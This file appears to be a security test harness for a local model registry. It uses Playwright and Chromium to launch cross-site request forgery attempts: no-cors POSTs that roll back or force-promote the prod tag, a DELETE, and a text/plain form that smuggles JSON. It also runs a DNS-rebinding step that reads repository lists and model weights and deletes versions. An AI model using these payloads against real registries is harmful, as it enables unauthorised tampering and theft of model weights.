"""What pages of an attacker try in a visitor's Chromium, against a registry on the visitor's machine.

`evil.test` serves the attacker's page. `rebound.test` is a name of the attacker's that now resolves to the registry, so
that its pages count as pages of the registry. Runs in the environment of Playwright, and prints what came of it.
"""

from __future__ import annotations

import http.server
import json
import sys
import threading
from typing import Any

from playwright.sync_api import sync_playwright

given = json.loads(sys.argv[1])
registry, repository, port = given["registry"], given["repository"], given["port"]
ATTACK = """
async ([registry, repository]) => {
  const tried = {};
  const send = async (name, path, options) => {
    try { const answer = await fetch(registry + path, options); tried[name] = answer.type + " " + answer.status; }
    catch (error) { tried[name] = "blocked"; }
  };
  const text = body => ({method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body});
  await send("rollback", repository + "/tags/prod/rollback", text("{}"));
  await send("promote", repository + "/promotions",
    text('{"version": "v2", "tag": "prod", "force": true, "reason": "csrf"}'));
  await send("beacon", repository + "/tags/prod/rollback", {...text("{}"), keepalive: true});
  await send("json", repository + "/tags/prod/rollback",
    {method: "POST", headers: {"Content-Type": "application/json"}, body: "{}"});
  await send("delete", repository + "/versions/v1", {method: "DELETE"});
  await send("read", "/api/v1/repositories", {});
  return tried;
}
"""
FORM = """<form method="post" enctype="text/plain" action="{action}"><input name='{{"a":"' value='"}}'></form>"""
REBOUND = """
async repository => {
  const tried = {};
  for (const [name, path, options] of [
    ["list", "/api/v1/repositories", {}],
    ["weights", repository + "/versions/v1/files/adapter_model.safetensors", {}],
    ["hub", "/hf/api/models", {}],
    ["delete", repository + "/versions/v1", {method: "DELETE"}],
    ["rollback", repository + "/tags/prod/rollback",
      {method: "POST", headers: {"Content-Type": "application/json"}, body: "{}"}],
  ]) tried[name] = (await fetch(path, options)).status;
  return tried;
}
"""


class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = FORM.format(action=f"{registry}{repository}/tags/prod/rollback").encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: Any) -> None:
        pass


attacker = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
threading.Thread(target=attacker.serve_forever, daemon=True).start()
found: dict[str, Any] = {}
with sync_playwright() as playwright:
    browser = playwright.chromium.launch(
        executable_path=given["chromium"],
        args=[
            "--no-sandbox",
            "--disable-gpu",
            "--disable-background-networking",
            "--host-resolver-rules=MAP evil.test 127.0.0.1, MAP rebound.test 127.0.0.1",
        ],
    )
    page = browser.new_page()
    page.goto(f"http://evil.test:{attacker.server_port}/")
    found["cross-site"] = page.evaluate(ATTACK, [registry, repository])
    with page.expect_navigation():
        page.evaluate("document.forms[0].submit()")
    found["form"] = page.evaluate("document.body.innerText")[:200]
    answer = page.goto(f"http://rebound.test:{port}/healthz")
    found["rebound"] = {"page": answer.status if answer else None, **page.evaluate(REBOUND, repository)}
    browser.close()
print(json.dumps(found))
